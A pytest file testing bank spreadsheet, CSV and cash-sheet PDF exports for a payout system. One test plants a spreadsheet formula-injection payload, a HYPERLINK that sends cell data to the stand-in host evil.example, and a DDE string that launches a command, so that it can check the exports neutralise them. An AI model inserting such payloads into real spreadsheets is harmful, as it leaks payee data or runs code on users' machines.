from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from marketplace.errors import Conflict
from marketplace.extensions import db
from marketplace.payouts import exports
from marketplace.payouts import services as payouts
from marketplace.people.models import Household


def approved_batch(lingzi, method):
    batch = payouts.create_batch(lingzi.maker_id, method, 0)
    payouts.approve_batch(lingzi.checker_id, batch.id)
    return batch.id, {item.household_id: item.amount_fen for item in batch.items}


def test_the_bank_xlsx_lists_every_payee_and_adds_up(lingzi):
    batch_id, amounts = approved_batch(lingzi, "bank")
    _batch, content = exports.bank_xlsx(lingzi.maker_id, batch_id)
    sheet = load_workbook(BytesIO(content)).active
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    payees, total = rows[:-1], rows[-1]
    accounts = {db.session.get(Household, h).bank_account: fen for h, fen in amounts.items()}
    assert {row[4]: round(Decimal(str(row[5])) * 100) for row in payees} == accounts
    assert round(Decimal(str(total[5])) * 100) == sum(amounts.values())


def test_the_bank_csv_opens_in_excel_with_chinese_names(lingzi):
    batch_id, amounts = approved_batch(lingzi, "bank")
    _batch, content = exports.bank_csv(lingzi.maker_id, batch_id)
    assert content.startswith("\ufeff".encode())
    lines = content.decode("utf-8-sig").splitlines()
    assert len(lines) == len(amounts) + 1
    assert sum(round(Decimal(line.split(",")[5]) * 100) for line in lines[1:]) == sum(amounts.values())
    assert db.session.get(Household, next(iter(amounts))).head_name in content.decode("utf-8-sig")


def test_the_cash_sheet_pdf_has_signature_lines_and_the_total(lingzi):
    batch_id, amounts = approved_batch(lingzi, "cash")
    _batch, content = exports.cash_sheet_pdf(lingzi.maker_id, batch_id)
    text = "".join(page.extract_text() for page in PdfReader(BytesIO(content)).pages)
    assert "领款人签字" in text
    assert f"¥{sum(amounts.values()) / 100:,.2f}" in text
    for household_id in amounts:
        assert db.session.get(Household, household_id).head_name in text


def test_a_draft_batch_is_not_exported(lingzi):
    batch = payouts.create_batch(lingzi.maker_id, "bank", 0)
    with pytest.raises(Conflict, match="approved"):
        exports.bank_xlsx(lingzi.maker_id, batch.id)


FORMULA = '=HYPERLINK("http://evil.example/?a="&E2,"Open")'


def test_a_bank_name_written_as_a_formula_stays_text_in_the_bank_files(lingzi):
    batch_id, amounts = approved_batch(lingzi, "bank")
    payee = db.session.get(Household, next(iter(amounts)))
    payee.bank_name = FORMULA
    payee.head_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    db.session.commit()
    _batch, content = exports.bank_xlsx(lingzi.maker_id, batch_id)
    sheet = load_workbook(BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + FORMULA in [cell.value for cell in cells]
    _batch, content = exports.bank_csv(lingzi.maker_id, batch_id)
    text = content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'@SUM" in text
    assert not [line for line in text.splitlines() for cell in line.split(",") if cell.startswith(("=", "@", '"=', '"@'))]


def test_the_bank_file_is_named_for_the_daifa_import_and_says_what_the_money_is(lingzi):
    batch_id, amounts = approved_batch(lingzi, "bank")
    batch, content = exports.bank_xlsx(lingzi.maker_id, batch_id)
    sheet = load_workbook(BytesIO(content)).active
    assert [cell.value for cell in sheet[1]] == exports.BANK_HEADERS
    memos = {row[6] for row in sheet.iter_rows(min_row=2, values_only=True) if row[0]}
    assert all(memo.startswith("岭子镇助农收益 第") and "PAYOUT" not in memo for memo in memos)
    name, ascii_name = exports.bank_file_names(batch, "xlsx")
    assert name.startswith("代发-岭子镇-") and name.endswith(f"-第{batch_id}批.xlsx")
    assert ascii_name.isascii() and ascii_name.endswith(".xlsx")
